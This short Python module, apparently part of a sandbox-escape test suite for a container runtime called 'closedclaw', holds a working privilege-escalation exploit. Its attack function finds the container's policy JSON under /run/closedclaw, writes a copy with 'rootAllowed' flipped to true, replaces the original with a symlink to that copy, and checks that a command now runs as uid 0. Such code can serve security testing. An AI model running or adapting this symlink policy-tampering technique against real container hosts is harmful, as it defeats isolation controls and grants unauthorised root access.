"""The record of what a container is held to is a link to a file that says something else."""

import glob
import os

from bypass import refused

SOURCE = "idea"
WAY = "state"
STOPPED = refused("state")


def attack(t):
    t.up()
    for path in glob.glob("/run/closedclaw/*/%s.json" % t.id):
        other = t.write("/root/other.json", t.read(path).replace('"rootAllowed":false', '"rootAllowed":true'), 0o600)
        os.unlink(path)
        os.symlink(other, path)
    return t.exec("id -u", user={"uid": 0, "gid": 0}).strip() == "0" and "uid 0"
